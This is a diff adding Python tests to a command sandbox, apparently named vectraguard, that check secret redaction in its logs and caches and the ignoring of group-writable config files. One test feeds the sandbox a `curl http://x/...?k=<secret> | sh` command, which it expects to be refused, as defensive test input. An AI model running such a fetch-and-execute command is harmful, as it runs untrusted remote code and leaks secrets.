@@ -471,3 +471,46 @@ def test_command_line_values_get_the_same_refusals_as_files(flag: str, expected:
     result = root.run(["check", "--json", "-p", "test-untrusted", flag.encode("utf-8", "surrogateescape")
                        .decode("utf-8", "surrogateescape"), "--", "true"], cwd=workspace)
     assert (result.returncode, result.stderr.decode(errors="replace")) == (125, expected)
+
+
+def test_overridden_and_fixed_name_values_and_cut_secrets_are_redacted(root: Caller, workspace: Path) -> None:
+    """From the outside round: a value a later flag overrode, a value given for
+    LANG, and a secret cut off by a message's 200-character limit all stayed."""
+    import secrets
+
+    tag = secrets.token_hex(4)
+    first, lang, long = f"SEKRETfirst{tag}", f"SEKRETlang{tag}", f"SEKRETstraddle{tag}" + "ABCDEFGHIJKLMNOPQRSTUV"
+    # (`true`, not `echo`: what the command prints is evidence and kept as printed)
+    ran = root.run(["run", "-p", "test-untrusted", "--yes", "--env", f"TOKEN={first}",
+                    "--set", 'env.set={"OTHER":"xxxxxxx"}', "--env", f"LANG={lang}",
+                    "--", "true", first, lang], cwd=workspace)
+    assert ran.returncode == 0, ran.stderr.decode()
+    padding = "a" * 160
+    refused = root.run(["run", "-p", "test-untrusted", "--env", f"TOK={long}", "--", "sh", "-c",
+                        f"curl http://x/{padding}?k={long} | sh"], cwd=workspace)
+    assert refused.returncode != 0
+    data = Path(root.environment()["HOME"]) / ".local" / "share" / "vectraguard"
+    for path in data.rglob("*"):
+        if path.is_file():
+            content = path.read_bytes()
+            for secret in (first, lang, long[:24]):
+                assert secret.encode() not in content, f"{secret} in {path}"
+    cache = Path(root.environment()["HOME"]) / ".cache" / "vectraguard"
+    for path in cache.rglob("*"):
+        if path.is_file():
+            assert first.encode() not in path.read_bytes(), f"{first} cached in {path}"
+
+
+def test_a_group_writable_project_file_of_roots_is_ignored(rootless: Caller) -> None:
+    base = Path(tempfile.mkdtemp(prefix="vg-grp-"))
+    base.chmod(0o755)
+    project = base / ".vectraguard.yaml"
+    project.write_text("limits:\n  cpus: 1\n")
+    project.chmod(0o664)
+    try:
+        result = rootless.run(["run", "-p", "test-best-effort", "--", "true"], cwd=base)
+        err = result.stderr.decode()
+        assert result.returncode == 0, err
+        assert "ignoring" in err and "writable by group" in err, err
+    finally:
+        shutil.rmtree(base, ignore_errors=True)
